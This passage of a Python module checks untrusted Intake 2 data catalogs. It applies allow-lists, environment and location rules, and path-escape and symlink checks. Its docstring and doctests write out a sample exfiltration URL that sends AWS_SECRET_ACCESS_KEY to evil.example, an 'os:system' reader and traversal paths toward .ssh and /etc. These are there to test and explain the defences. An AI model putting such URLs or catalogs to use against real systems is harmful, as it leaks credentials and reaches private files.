"""Intake 2 catalogs of ``ooc_kernels`` datasets, opened safely.

A catalog is an Intake 2 YAML file (``version: 2``).  Each dataset is a reader entry
``intake.readers.readers:XArrayDatasetReader`` over a data entry
``intake.readers.datatypes:Zarr`` whose ``url`` is relative to the catalog's folder
(``{CATALOG_DIR}/data/NAME.zarr``).  :func:`register_dataset` writes such entries.

A catalog from elsewhere is untrusted by default: the rules below hold unless the caller
passes ``trusted=True``, which means "I trust this whole file" and lifts all of them.

Trust rule
----------
Intake 2 catalogs can import and call arbitrary Python (reader classes, ``cls`` keys,
``{func(...)}``/``{import(...)}``/``{pickle64(...)}`` templates, user-parameter types).
An untrusted catalog file is parsed with a ``yaml.SafeLoader`` that refuses aliases and
nesting deeper than 100 levels (:func:`ooc_kernels._untrusted.load_yaml`) and checked
*before* Intake sees it: every reader, data type, ``cls`` and user-parameter type must be in a small
allow-list of classes that only read data, an xarray ``engine`` key must be the string ``zarr``, and every
template must be a plain parameter (``{CATALOG_DIR}``), ``{data(...)}`` or
``{env(NAME)}``.  Anything else raises
:class:`~ooc_kernels.exceptions.UntrustedCatalogError` without importing anything.

Environment rule
----------------
Intake fills ``{env(NAME)}`` (and ``env(NAME)`` without braces in user-parameter defaults)
from the environment, so a catalog could send a secret to a URL of its choice
(``https://evil.example/{env(AWS_SECRET_ACCESS_KEY)}/x.zarr``).  An untrusted catalog may
only read the variables the *caller* names: ``allow_env=("NAME", ...)`` (command line:
``--allow-env NAME``); any other ``env(...)`` raises ``UntrustedCatalogError``.

Location rule
-------------
After the templates are filled in exactly as Intake fills them, every place an entry or a
data description names a location (``url``, ``urlpath``, ``path``, ``paths``, ``args``,
``store``, ``fo`` ... as a string, or every element of a list or tuple; anything else there
is refused as uncheckable) is split into its fsspec protocols (``a::b::c`` chains too):

* remote protocols in :data:`REMOTE_PROTOCOLS` (``s3``, ``gs``, ``https`` ...) are allowed;
* protocols that reach the local file system (:data:`LOCAL_PROTOCOLS`: ``file``, ``local``,
  the caches, ``zip``, ``tar``, ``dir``, ``reference``) are checked by the path rule below;
  for ``reference::`` the JSON reference file is read and every target it maps is checked
  the same way (a reference set that cannot be read completely, e.g. parquet or jinja
  templates, is refused);
* any other protocol (``memory``, ``data``, ``git``, ``sftp`` ...) raises
  ``UntrustedCatalogError``.

``storage_options`` (anywhere in an entry) may only set the harmless keys of
:data:`SAFE_STORAGE_OPTIONS` (``anon``, ``requester_pays`` ...), never ``fo``,
``target_protocol``, ``remote_options``, ``protocol`` and the like.

Path rule
---------
Every local path an entry reads (after templates, ``~``, ``file:`` prefixes and
percent-encoding are removed, ``..`` resolved and symbolic links followed, in every way the
openers interpret them; glob patterns are expanded), and every symbolic link inside a store
folder it reaches (array folders, chunk files, metadata files, at any depth), must lie
inside the catalog file's folder, so a catalog cannot reach ``../../home/me/.ssh`` or ``/etc``.  Otherwise
:class:`PathEscapeError` is raised unless the caller passes ``allow_outside=[folder, ...]``
(these folders as well; command line ``--data-root PATH``), ``allow_outside=True`` (any
path; ``--allow-outside``) or ``trusted=True`` (``--trusted``).  Zarr groups (``root``,
``group``) must not contain ``..``.

Examples
--------
>>> import os, tempfile
>>> from ooc_kernels.data import make_dataset, register_dataset, list_datasets, open_dataset
>>> d = tempfile.mkdtemp()
>>> p = make_dataset("synthetic_krr_2d", os.path.join(d, "data", "krr.zarr"), 100,
...                  chunk_size=50)
>>> cat = os.path.join(d, "demo.yaml")
>>> register_dataset(cat, "krr", p, description="toy regression")
>>> list_datasets(cat)
['krr']
>>> open_dataset(cat, "krr").X.chunks
((50, 50), (2,))
>>> outside = os.path.join(d, "catalogs", "demo.yaml")   # data is in ../data from there
>>> register_dataset(outside, "krr", p)
Traceback (most recent call last):
...
ooc_kernels.exceptions.PathEscapeError: cannot register entry 'krr' ...
>>> register_dataset(outside, "krr", p, allow_outside=[os.path.join(d, "data")])
>>> open_dataset(outside, "krr", allow_outside=[os.path.join(d, "data")]).sizes["sample"]
100
>>> open_dataset(outside, "krr", trusted=True).sizes["sample"]   # trust lifts the rules
100

A catalog that reads an environment variable needs the caller's permission:

>>> import yaml
>>> from pathlib import Path
>>> spec = yaml.safe_load(Path(cat).read_text())
>>> (data,) = spec["data"].values()
>>> data["kwargs"]["url"] = "https://evil.example/{env(AWS_SECRET_ACCESS_KEY)}/x.zarr"
>>> evil = os.path.join(d, "evil.yaml")
>>> with open(evil, "w") as f:
...     yaml.safe_dump(spec, f)
>>> list_datasets(evil)
Traceback (most recent call last):
...
ooc_kernels.exceptions.UntrustedCatalogError: catalog ...: data ... reads the environment variable ...
>>> list_datasets(evil, allow_env=["AWS_SECRET_ACCESS_KEY"])
['krr']
"""

from __future__ import annotations

import glob
import json
import os
import re
import uuid
import warnings
from collections.abc import Iterable, Mapping
from pathlib import Path
from typing import Any
from urllib.parse import unquote, urlparse

import xarray as xr
import yaml

from .._untrusted import load_yaml, short_repr as _r
from ..exceptions import (
    CatalogError,
    PathEscapeError,
    SchemaError,
    UnknownEntryError,
    UntrustedCatalogError,
)
from .declarations import SCHEMAS
from .schema import (
    DECLARATION_KEY,
    Context,
    apply_declaration,
    make_declaration,
    validate_dataset,
)


__all__ = [
    "ALLOWED_READERS",
    "ALLOWED_DATATYPES",
    "ALLOWED_USER_PARAMETERS",
    "ALLOWED_ENGINES",
    "REMOTE_PROTOCOLS",
    "LOCAL_PROTOCOLS",
    "SAFE_STORAGE_OPTIONS",
    "AllowOutside",
    "PathEscapeError",
    "check_catalog_trust",
    "check_catalog_paths",
    "load_catalog",
    "list_datasets",
    "describe_catalog",
    "entry_path",
    "open_dataset",
    "register_dataset",
    "declare_dataset",
]

#: Reader classes an untrusted catalog may name (they only read data).
ALLOWED_READERS = frozenset({"intake.readers.readers:XArrayDatasetReader"})
#: Data types an untrusted catalog may name.
ALLOWED_DATATYPES = frozenset({"intake.readers.datatypes:Zarr"})
#: User-parameter classes an untrusted catalog may name.
ALLOWED_USER_PARAMETERS = frozenset(
    f"intake.readers.user_parameters:{name}"
    for name in ("BaseUserParameter", "SimpleUserParameter", "OptionsUserParameter",
                 "NamedOptionsUserParameter", "MultiOptionUserParameter",
                 "BoundedNumberUserParameter")
)
#: xarray engines an untrusted catalog may name (others, e.g. ``kerchunk`` or HDF5 with
#: external links, can read files the path rule does not see).
ALLOWED_ENGINES = frozenset({"zarr"})
#: fsspec protocols of remote stores an untrusted catalog may read (their own credentials
#: govern access; nothing local is reached).
REMOTE_PROTOCOLS = frozenset({"s3", "s3a", "gs", "gcs", "az", "abfs", "abfss", "adl",
                              "http", "https", "hf", "oci", "oss"})
#: fsspec protocols that reach the local file system; allowed in untrusted catalogs, and
#: every local path they reach (reference targets included) is checked by the path rule.
#: Any protocol in neither set is refused unless the catalog is trusted.
LOCAL_PROTOCOLS = frozenset({"file", "local", "simplecache", "filecache", "blockcache",
                             "cached", "zip", "tar", "libarchive", "dir", "reference"})
#: ``storage_options`` keys an untrusted catalog may set (none can name a file, a protocol,
#: an endpoint or credentials); values must be plain scalars.
SAFE_STORAGE_OPTIONS = frozenset({
    "anon", "requester_pays", "version_aware", "block_size", "default_block_size",
    "cache_type", "default_cache_type", "default_fill_cache", "use_listings_cache",
    "listings_expiry_time", "skip_instance_cache",
})
_PLAIN_LOCAL = frozenset({"file", "local"})
_CACHES = frozenset({"simplecache", "filecache", "blockcache", "cached"})
_ARCHIVES = frozenset({"zip", "tar", "libarchive"})
_ALLOWED_ENTRY_CLS = frozenset({"intake.readers.entry:ReaderDescription"})
_ALLOWED_DATA_CLS = frozenset({"intake.readers.entry:DataDescription"})
_ALLOWED_OUTPUTS = frozenset({None, "xarray:Dataset"})
# builtins a SimpleUserParameter may coerce values with (``dtype: eval`` would run code)
_SAFE_DTYPES = frozenset({"str", "int", "float", "bool", "list", "tuple", "dict", "set",
                          "frozenset", "complex", "object"})
_TOP_KEYS = frozenset({"version", "entries", "data", "user_parameters", "aliases", "metadata"})
_FIELD = re.compile(r"\{([^{}]*)\}")
_PLAIN_NAME = re.compile(r"^[A-Za-z_][A-Za-z0-9_]*$")
_DATA_REF = re.compile(r"^data\(\s*[A-Za-z0-9_.\-]+\s*(,\s*\d+\s*)?\)$")
_ENV_REF = re.compile(r"^env\(\s*[A-Za-z_][A-Za-z0-9_]*\s*\)$")
# intake also matches these *without* braces in user-parameter defaults
_CALL_TEMPLATE = re.compile(r"(func|import|pickle64)\s*\(", re.IGNORECASE)
# every environment read intake makes: ``{env(X)}`` anywhere in a string, ``env(X)`` at the
# start of a user-parameter default (or of a kwarg that sets one); matched anywhere here
_ENV_ANY = re.compile(r"env[(]([^)]+)[)]", re.IGNORECASE)
# how intake's Catalog._rehydrate recognises a reference to another entry or data
_DATA_LINK = re.compile(r"{?data[(]([^)]+)[)]}?")
_HINT = "pass trusted=True if you trust this file"

#: ``allow_outside`` argument: False (only the catalog's folder), True (anywhere) or an
#: iterable of extra folders that entries may read from.
AllowOutside = bool | Iterable[str | os.PathLike]


# --- trust check -----------------------------------------------------------------------

def _key(key: Any, limit: int = 60) -> str:
    """A key (or path) of the catalog, unquoted, in an error message: at most ``limit``
    characters."""
    text = str(key)
    return text if len(text) <= limit else text[:limit - 3] + "..."


def _untrusted(where: str, what: str, source: str) -> UntrustedCatalogError:
    return UntrustedCatalogError(
        f"catalog {source}: {where} uses {what}, which could import or run code and is not "
        f"in the allow-list; {_HINT}"
    )


def _env_names(allow_env: Any) -> frozenset[str]:
    """The ``allow_env`` argument as a set of variable names."""
    if allow_env is None:
        return frozenset()
    if isinstance(allow_env, str):
        allow_env = [allow_env]
    if isinstance(allow_env, Iterable) and not isinstance(allow_env, Mapping):
        names = list(allow_env)
        if all(isinstance(n, str) and n for n in names):
            return frozenset(names)
    raise CatalogError(
        f"allow_env must be a list of environment variable names, found {allow_env!r}; e.g. "
        "allow_env=['DATA_ROOT'] (command line: --allow-env DATA_ROOT)"
    )


def _check_env(value: str, where: str, source: str, allow_env: frozenset[str]) -> None:
    for name in _ENV_ANY.findall(value):
        if name not in allow_env:
            raise UntrustedCatalogError(
                f"catalog {source}: {where} reads the environment variable {_r(name)} (in "
                f"{_r(value)}); an untrusted catalog may only read the environment variables "
                f"the caller allows, because it could send their values to any URL; pass "
                f"allow_env=[{_r(name)}] (command line: --allow-env {_key(name)}) if this catalog "
                f"may read it, or {_HINT}"
            )


def _check_value(value: Any, where: str, source: str,
                 allow_env: frozenset[str] = frozenset()) -> None:
    """Walk kwargs-like values: only plain data and harmless templates."""
    if isinstance(value, Mapping):
        if "cls" in value:
            raise _untrusted(where, f"class reference cls={_r(value['cls'])}", source)
        for k, v in value.items():
            if not isinstance(k, (str, int, float, bool)) and k is not None:
                raise _untrusted(where, f"a non-plain key {_r(k)}", source)
            _check_value(v, f"{where}.{_key(k)}", source, allow_env)
    elif isinstance(value, (list, tuple)):
        for i, v in enumerate(value):
            _check_value(v, f"{where}[{i}]", source, allow_env)
    elif isinstance(value, str):
        if _CALL_TEMPLATE.search(value):
            raise _untrusted(where, f"the template {_r(value)}", source)
        for field in _FIELD.findall(value):
            field = field.strip()
            if not (_PLAIN_NAME.match(field) or _DATA_REF.match(field)
                    or _ENV_REF.match(field)):
                raise _untrusted(where, f"the template {{{field}}} in {_r(value)}", source)
        _check_env(value, where, source, allow_env)
    elif value is None or isinstance(value, (bool, int, float)):
        return
    else:
        raise _untrusted(where, f"a Python object of type {type(value).__name__}", source)


def check_catalog_trust(spec: Mapping, source: str = "<dict>", *,
                        allow_env: Iterable[str] = ()) -> None:
    """Refuse a parsed Intake 2 catalog that could import or execute code or read secrets.

    Parameters
    ----------
    spec : mapping
        The catalog as parsed by ``yaml.safe_load`` (or ``Catalog.to_dict()``).
    source : str
        Name of the catalog in error messages.
    allow_env : iterable of str, default ()
        Environment variables the catalog may read through ``{env(NAME)}`` templates.

    Raises
    ------
    UntrustedCatalogError
        Naming the entry, the offending reference and the fix (``trusted=True``, or
        ``allow_env`` for an environment variable).
    CatalogError
        The mapping is not an Intake 2 catalog.

    Examples
    --------
    >>> bad = {"version": 2, "aliases": {}, "data": {}, "metadata": {}, "user_parameters": {},
    ...        "entries": {"x": {"reader": "os:system", "kwargs": {}}}}
    >>> check_catalog_trust(bad, "bad.yaml")
    Traceback (most recent call last):
    ...
    ooc_kernels.exceptions.UntrustedCatalogError: catalog bad.yaml: entry 'x' uses reader 'os:system', ...
    """
    allow_env = _env_names(allow_env)
    _check_structure(spec, source)
    for name, entry in (spec.get("entries") or {}).items():
        where = f"entry {_r(name)}"
        _check_entity(entry, where, source, _ALLOWED_ENTRY_CLS)
        reader = entry.get("reader")
        if reader not in ALLOWED_READERS:
            raise _untrusted(where, f"reader {_r(reader)}", source)
        if entry.get("output_instance") not in _ALLOWED_OUTPUTS:
            raise _untrusted(where, f"output_instance {_r(entry.get('output_instance'))}", source)
        _check_value(entry.get("kwargs") or {}, f"{where} kwargs", source, allow_env)
        _check_user_parameters(entry.get("user_parameters") or {}, where, source, allow_env)
    for name, data in (spec.get("data") or {}).items():
        where = f"data {_r(name)}"
        _check_entity(data, where, source, _ALLOWED_DATA_CLS)
        datatype = data.get("datatype")
        if datatype not in ALLOWED_DATATYPES:
            raise _untrusted(where, f"datatype {_r(datatype)}", source)
        _check_value(data.get("kwargs") or {}, f"{where} kwargs", source, allow_env)
        _check_user_parameters(data.get("user_parameters") or {}, where, source, allow_env)
    _check_user_parameters(spec.get("user_parameters") or {}, "the catalog", source, allow_env)
    _check_value(spec.get("aliases") or {}, "catalog aliases", source, allow_env)
    # metadata is free text: intake neither templates nor imports it when reading


def _check_structure(spec: Any, source: str) -> None:
    if not isinstance(spec, Mapping):
        raise CatalogError(
            f"catalog {source} is not an Intake 2 catalog: expected a YAML mapping, found "
            f"{type(spec).__name__}; write it with ooc_kernels.data.register_dataset"
        )
    if spec.get("version") != 2:
        raise CatalogError(
            f"catalog {source} is not an Intake 2 catalog: 'version' is "
            f"{_r(spec.get('version'))}, expected 2; convert it with intake 2 or recreate it "
            "with ooc_kernels.data.register_dataset"
        )
    extra = sorted(set(map(str, spec)) - _TOP_KEYS)
    if extra:
        raise CatalogError(
            f"catalog {source} has unknown top-level key(s) {extra}; allowed keys are "
            f"{sorted(_TOP_KEYS)}"
        )
    for key in ("entries", "data", "user_parameters", "aliases", "metadata"):
        if not isinstance(spec.get(key) or {}, Mapping):
            raise CatalogError(
                f"catalog {source}: {_r(key)} must be a mapping, found "
                f"{type(spec.get(key)).__name__}"
            )


def _check_entity(entity: Any, where: str, source: str, allowed_cls: frozenset) -> None:
    if not isinstance(entity, Mapping):
        raise CatalogError(
            f"catalog {source}: {where} must be a mapping, found {_r(entity)}; recreate it with "
            "ooc_kernels.data.register_dataset"
        )
    if "cls" in entity and entity["cls"] not in allowed_cls:
        raise _untrusted(where, f"class reference cls={_r(entity['cls'])}", source)


def _check_user_parameters(ups: Any, where: str, source: str,
                           allow_env: frozenset[str] = frozenset()) -> None:
    if not isinstance(ups, Mapping):
        raise CatalogError(f"catalog {source}: user_parameters of {where} must be a mapping")
    for name, up in ups.items():
        up_where = f"{where} user parameter {_r(name)}"
        if not isinstance(up, Mapping):
            _check_value(up, up_where, source, allow_env)
            continue
        cls = up.get("cls")
        if cls is not None and cls not in ALLOWED_USER_PARAMETERS:
            raise _untrusted(up_where, f"class reference cls={_r(cls)}", source)
        dtype = up.get("dtype")
        if dtype is not None and dtype not in _SAFE_DTYPES:
            raise _untrusted(up_where, f"dtype {_r(dtype)}", source)
        _check_value({k: v for k, v in up.items() if k not in ("cls", "dtype")}, up_where,
                     source, allow_env)


# --- location rule and path rule -------------------------------------------------------

# keys whose values intake, xarray, zarr or fsspec open as locations
_PATH_KEYS = frozenset({"url", "urlpath", "path", "paths", "filename_or_obj", "store",
                        "chunk_store", "attrs_file", "fo", "target", "args", "data"})
# keys that name a group inside a Zarr store
_IN_STORE_KEYS = frozenset({"root", "group"})
# a string under another key is still checked when it looks like a location
_SCHEME_LIKE = re.compile(r"^[A-Za-z][A-Za-z0-9+.\-]*:")
# what xarray treats as a remote URI (anything else it opens as a local path)
_XARRAY_REMOTE = re.compile(r"^[a-z][a-z0-9]*(://|::)")
_NOT_PROTOCOL_WORD = re.compile(".*[^a-z]+.*")  # fsspec.core._un_chain's test
_MAX_REFERENCE_DEPTH = 2


def _allowed_roots(base: Path | None, allow_outside: Any) -> list[Path] | None:
    """The folders entries may read from (``None``: anywhere)."""
    if allow_outside is True:
        return None
    if allow_outside is False or allow_outside is None:
        extra: list = []
    elif isinstance(allow_outside, (str, os.PathLike)):
        extra = [allow_outside]
    elif isinstance(allow_outside, Iterable) and not isinstance(allow_outside, Mapping):
        extra = list(allow_outside)
    else:
        extra = [allow_outside]
    roots = [] if base is None else [base]
    for root in extra:
        if not isinstance(root, (str, os.PathLike)) or isinstance(root, bool) or not \
                os.fspath(root):
            raise CatalogError(
                f"allow_outside must be True, False or a list of folders, found {root!r} in "
                f"{allow_outside!r}; e.g. allow_outside=['/data/shared']"
            )
        roots.append(Path(os.fspath(root)).expanduser().resolve())
    return roots


def _chain(url: str) -> list[tuple[str | None, str, str]]:
    """``(protocol, path, bit)`` per link of an fsspec URL, outer first, split as
    ``fsspec.core._un_chain`` splits it; protocols in lower case, ``None`` for a plain path."""
    from fsspec.core import split_protocol
    from fsspec.registry import available_protocols

    if "::" in url:
        known = set(available_protocols())
        bits = []
        for part in url.split("::"):
            if part in known:
                bits.append(part + "://")
            elif "://" in part or _NOT_PROTOCOL_WORD.match(part):
                bits.append(part)
            else:
                bits.append(part + "://")
    else:
        bits = [url]
    out = []
    for bit in bits:
        protocol, path = split_protocol(bit)
        out.append((protocol.lower() if protocol else None, path, bit))
    return out


def _strip_file(path: str) -> str:
    """A local path without a ``file:``/``local:`` prefix, as fsspec's LocalFileSystem."""
    for prefix in ("file://", "local://", "file:", "local:"):
        if path[:len(prefix)].lower() == prefix:
            return path[len(prefix):]
    return path


def _resolutions(path: str) -> list[Path]:
    """The absolute paths a local path string can mean to the openers: with and without
    ``~`` expansion, ``..`` removed before (xarray, fsspec) and after (the OS) following
    symbolic links."""
    out: list[Path] = []
    for v in dict.fromkeys((os.path.expanduser(path), path)):
        out += [Path(os.path.abspath(v)).resolve(), Path(v).resolve()]
    return list(dict.fromkeys(out))


def _outside(path: Path, roots: list[Path]) -> bool:
    return not any(path == r or path.is_relative_to(r) for r in roots)


def _fmt_roots(base: Path | None, roots: list[Path]) -> str:
    extra = [str(r) for r in roots if r != base]
    where = f"the catalog's folder {str(base)!r}" if base is not None else \
        "no local folder (the catalog is not a local file)"
    return where + (f" or the allowed folders {extra}" if extra else "")


def _catalog_base(cat) -> Path | None:
    """The catalog file's folder (resolved); the working folder for in-memory catalogs."""
    base = cat.user_parameters.get("CATALOG_DIR")
    base = getattr(base, "default", base)
    if base is None:
        return Path.cwd().resolve()
    if not isinstance(base, str):
        return None
    bits = _chain(base)
    if len(bits) != 1 or bits[0][0] not in (None, *_PLAIN_LOCAL):
        return None  # a remote catalog: no local folder
    return Path(os.path.abspath(_strip_file(bits[0][2]))).resolve()


def _looks_like_location(value: str) -> bool:
    return ("://" in value or "::" in value or value.startswith(("/", "~", "\\"))
            or bool(_SCHEME_LIKE.match(value))
            or ".." in re.split(r"[/\\]", unquote(value)))


class _Link:
    """A ``{data(TOKEN)}`` reference, left in the kwargs where intake would insert the
    referenced data or reader."""

    __slots__ = ("token",)

    def __init__(self, token: str):
        self.token = token


def _link_refs(value: Any) -> Any:
    """The kwargs with references replaced as ``Catalog._rehydrate`` replaces them."""
    if isinstance(value, Mapping):
        return {k: _link_refs(v) for k, v in value.items()}
    if isinstance(value, str):
        m = _DATA_LINK.match(value)
        return _Link(m.group(1)) if m else value
    if isinstance(value, (list, tuple, set, frozenset)):
        return type(value)(_link_refs(v) for v in value)
    return value


class _LocationCheck:
    """Checks where the entries and data of a loaded catalog read from (untrusted catalogs).

    Every entry's and data description's kwargs are filled in with intake's own
    ``set_values`` (references to other descriptions are followed, not instantiated); then
    locations are checked against the protocol lists, ``storage_options`` against
    :data:`SAFE_STORAGE_OPTIONS`, ``engine`` against :data:`ALLOWED_ENGINES` and local
    paths against ``roots`` (``None``: any local path).
    """

    def __init__(self, cat, roots: list[Path] | None, base: Path | None, source: str):
        self.cat, self.roots, self.base, self.source = cat, roots, base, source
        # percent-decoded roots too, so that a folder named 'a%20b' still contains itself
        self.unquoted_roots = None if roots is None else \
            roots + [Path(unquote(str(r))) for r in roots]
        self.done: set[tuple[str, str]] = set()
        self.references: dict[Path, list[tuple[str, str]]] = {}
        self.walked: set[Path] = set()  # stores whose links were checked

    def run(self) -> None:
        for name in sorted(self.cat.entries, key=str):
            self.description("entries", name, f"entry {_r(name)}", "")
        for token in sorted(self.cat.data, key=str):
            self.description("data", token, f"data {_r(token)}", "")

    # -- descriptions and references

    def description(self, kind: str, token: str, who: str, prefix: str) -> None:
        if (kind, token) in self.done:
            return
        self.done.add((kind, token))
        desc = getattr(self.cat, kind)[token]
        raw = _link_refs(dict(desc.kwargs or {}))
        raw.update(getattr(self.cat, "_up_overrides", None) or {})
        ups = dict(desc.user_parameters or {})
        ups.update(self.cat.user_parameters)
        try:
            from intake.readers.user_parameters import set_values

            filled = set_values(ups, dict(raw))
        except Exception as err:  # noqa: BLE001 - intake would fail the same way
            raise UntrustedCatalogError(
                f"catalog {self.source}: {who}: the templates of {prefix or ''}kwargs cannot "
                f"be filled in ({type(err).__name__}: {err}), so where it reads from cannot "
                f"be checked; fix the catalog, or {_HINT}"
            ) from None
        self.walk(filled, raw, who, f"{prefix}kwargs", "other")

    def follow(self, token: str, who: str) -> None:
        token = self.cat.aliases.get(token, token)
        if token in self.cat.entries:
            self.description("entries", token, who, f"entry {_r(token)} ")
        elif token in self.cat.data:
            self.description("data", token, who, f"data {_r(token)} ")
        # anything else: intake raises KeyError when reading, nothing is opened

    # -- walking the filled-in kwargs

    def walk(self, node: Any, raw: Any, who: str, field: str, mode: str) -> None:
        """``mode``: 'path' (a location is expected), 'store' (a group inside a Zarr
        store) or 'other'; ``raw`` is the same place before templates were filled in."""
        if isinstance(node, _Link):
            self.follow(node.token, who)
        elif isinstance(node, Mapping):
            if mode != "other":
                self.uncheckable(node, who, field)
            for k, v in node.items():
                sub = f"{field}.{_key(k)}"
                raw_v = raw.get(k) if isinstance(raw, Mapping) else \
                    raw if isinstance(raw, str) else None
                if k == "storage_options":
                    self.storage_options(v, who, sub)
                elif k == "engine" and not (isinstance(v, str) and v in ALLOWED_ENGINES):
                    # null too: xarray would then guess an engine from the files it finds
                    raise UntrustedCatalogError(
                        f"catalog {self.source}: {who} sets the xarray engine {_r(v)} ({sub}); "
                        f"an untrusted catalog may only name {sorted(ALLOWED_ENGINES)}, "
                        f"because other engines (or xarray's guess when it is null) can read "
                        f"files the path rule does not see (kerchunk references, HDF5 "
                        f"external links): write engine: zarr or remove the key, or {_HINT}"
                    )
                child = "path" if k in _PATH_KEYS else "store" if k in _IN_STORE_KEYS \
                    else "other"
                self.walk(v, raw_v, who, sub, child)
        elif isinstance(node, (list, tuple, set, frozenset)):
            for i, v in enumerate(node):
                raw_v = raw[i] if isinstance(raw, (list, tuple)) and i < len(raw) and \
                    len(raw) == len(node) else raw if isinstance(raw, str) else None
                self.walk(v, raw_v, who, f"{field}[{i}]", mode)
        elif isinstance(node, str):
            written = raw if isinstance(raw, str) else node
            if mode == "path" or (mode == "other" and _looks_like_location(node)):
                self.location(node, written, who, field, 0)
            elif mode == "store":
                self.in_store(node, written, who, field)
        elif node is None or mode == "other":
            return
        else:
            self.uncheckable(node, who, field)

    def uncheckable(self, node: Any, who: str, field: str) -> None:
        raise UntrustedCatalogError(
            f"catalog {self.source}: {who} has {_r(node)} ({type(node).__name__}) in {field}, "
            "where a path or URL is expected, and it cannot be checked; write a string (or "
            f"a list of strings) such as '{{CATALOG_DIR}}/data/x.zarr', or {_HINT}"
        )

    def storage_options(self, options: Any, who: str, field: str) -> None:
        if options is None:
            return
        if not isinstance(options, Mapping):
            self.uncheckable(options, who, field)
        for key, value in options.items():
            if key not in SAFE_STORAGE_OPTIONS:
                raise UntrustedCatalogError(
                    f"catalog {self.source}: {who} sets the storage option {_r(key)} "
                    f"({field}.{_key(key)}), which could point fsspec at local files, another "
                    f"protocol or another endpoint; an untrusted catalog may only set "
                    f"{sorted(SAFE_STORAGE_OPTIONS)}: remove {_r(key)} from the catalog, or "
                    f"{_HINT}"
                )
            if not (value is None or isinstance(value, (bool, int, float, str))):
                raise UntrustedCatalogError(
                    f"catalog {self.source}: {who} sets the storage option {_r(key)} to "
                    f"{_r(value)} ({field}.{_key(key)}); only plain values are allowed in an "
                    f"untrusted catalog; write a number, string or boolean, or {_HINT}"
                )

    # -- locations

    def location(self, value: str, written: str, who: str, field: str, depth: int) -> None:
        bits = _chain(value)
        for protocol, _, _ in bits:
            if protocol is not None and protocol not in LOCAL_PROTOCOLS | REMOTE_PROTOCOLS:
                raise UntrustedCatalogError(
                    f"catalog {self.source}: {who} reads {_r(written)} ({field}) through the "
                    f"fsspec protocol {_r(protocol)}, which is neither a remote store of the "
                    f"allow-list {sorted(REMOTE_PROTOCOLS)} nor a local protocol the path "
                    f"rule can check {sorted(LOCAL_PROTOCOLS)}; use a path under the "
                    f"catalog's folder (e.g. '{{CATALOG_DIR}}/data/x.zarr') or an allowed "
                    f"remote URL, or {_HINT}"
                )
        local: list[str] = []      # local path strings this location reaches
        references: list[str] = []  # local reference files whose targets it reaches
        inner: str | None = None   # the local path of the link inside the current one
        for i in reversed(range(len(bits))):
            protocol, path, bit = bits[i]
            innermost = i == len(bits) - 1
            if protocol is None or protocol in _PLAIN_LOCAL:
                inner = _strip_file(bit)
                local.append(inner)
                if protocol is None:
                    local.append(bit)   # xarray/zarr open it as written
                else:
                    local.append(unquote(urlparse(bit).path))
            elif protocol in _CACHES or protocol == "dir":
                if protocol == "dir" and inner is not None:
                    path = inner.rstrip("/") + "/" + path if path else inner
                if path and (innermost or inner is not None):
                    local.append(path)  # opened on the local file system
                    inner = path
            elif protocol == "reference":
                if innermost or inner is None:
                    # references from storage_options or a remote file: not checkable
                    raise self.unreadable_references(
                        bit if innermost else bits[i + 1][2], written, who, field)
                references.append(inner)
                inner = None
            elif protocol in _ARCHIVES:
                if innermost:  # the archive would come from storage_options (fo)
                    raise UntrustedCatalogError(
                        f"catalog {self.source}: {who} reads {_r(written)} ({field}) from a "
                        f"{protocol} archive without naming the archive, which cannot be "
                        f"checked; chain it to the archive's path (e.g. "
                        f"'{protocol}://x.zarr::{{CATALOG_DIR}}/data/x.{protocol}'), or {_HINT}"
                    )
                inner = None  # the members are inside the archive
            else:  # remote stores
                inner = None
        if not _XARRAY_REMOTE.match(value):
            local.append(value)  # xarray opens anything else as a local path
        if self.roots is not None:
            for path in dict.fromkeys(local):
                self.local_path(path, value, written, who, field)
        for refs in references:  # read only once the file itself passed the path rule
            for key, target in self.reference_targets(refs, written, who, field):
                if depth >= _MAX_REFERENCE_DEPTH:
                    raise self.unreadable_references(refs, written, who, field)
                self.location(target, target, who, f"{field} -> reference {_r(key)} of {_r(refs)}",
                              depth + 1)

    def local_path(self, path: str, value: str, written: str, who: str, field: str) -> None:
        try:
            checks = [(p, self.roots) for p in _resolutions(path)]
            decoded = unquote(path)
            if decoded != path:  # percent-decoded: inside the (decoded) allowed folders
                checks += [(p, self.unquoted_roots) for p in _resolutions(decoded)]
            if re.search(r"[*?[]", path) and not any(_outside(p, r) for p, r in checks):
                # a glob pattern inside the folder: what it matches (symbolic links ...)
                pattern = os.path.abspath(os.path.expanduser(path))
                checks += [(Path(m).resolve(), self.roots) for m in glob.glob(pattern)]
        except (OSError, ValueError) as err:
            raise UntrustedCatalogError(
                f"catalog {self.source}: {who} reads {_r(written)} ({field}), which cannot be "
                f"resolved to a local path ({type(err).__name__}: {err}); fix the path, or "
                f"{_HINT}"
            ) from None
        for p, roots in checks:
            if _outside(p, roots):
                filled = f", filled in as {_r(value)}" if value != written else ""
                raise PathEscapeError(
                    f"catalog {self.source}: {who} reads {_r(written)} ({field}{filled}), which "
                    f"resolves to {_r(str(p))}, outside {_fmt_roots(self.base, self.roots)}; "
                    f"move the data under the catalog's folder or, if you trust this "
                    f"catalog, pass allow_outside=[{_r(str(p.parent))}] (that folder as "
                    f"well), allow_outside=True (any path) or trusted=True (command line: "
                    f"--data-root {_key(p.parent, 200)}, --allow-outside or --trusted)"
                )
        for p in dict.fromkeys(p for p, _ in checks):
            self.links(p, written, who, field)

    def links(self, store: Path, written: str, who: str, field: str) -> None:
        """Refuse a symbolic link anywhere inside the folder ``store`` (array folders, chunk
        files, nested groups, metadata files) that leads outside the allowed folders.

        One walk of the directory tree with ``os.scandir`` (no file is opened or read); a
        link to a folder inside the allowed folders is walked as well, each folder once.
        """
        if store in self.walked or not store.is_dir():
            return
        self.walked.add(store)
        stack, seen = [store], set()
        while stack:
            folder = stack.pop()
            try:
                info = folder.stat()
                if (info.st_dev, info.st_ino) in seen:
                    continue
                seen.add((info.st_dev, info.st_ino))
                with os.scandir(folder) as entries:
                    items = list(entries)
            except OSError:
                continue  # unreadable: nothing can be read through it either
            for item in items:
                if item.is_symlink():
                    target = Path(os.path.realpath(item.path))
                    if _outside(target, self.roots):
                        raise PathEscapeError(
                            f"catalog {self.source}: {who} reads {_r(written)} ({field}), "
                            f"whose store {_r(str(store))} holds the symbolic link "
                            f"{_r(item.path)}, which leads to {_r(str(target))}, outside "
                            f"{_fmt_roots(self.base, self.roots)}; replace the link by a copy "
                            f"of the data or, if you trust this catalog, pass "
                            f"allow_outside=[{_r(str(target.parent))}] (that folder as well), "
                            f"allow_outside=True (any path) or trusted=True (command line: "
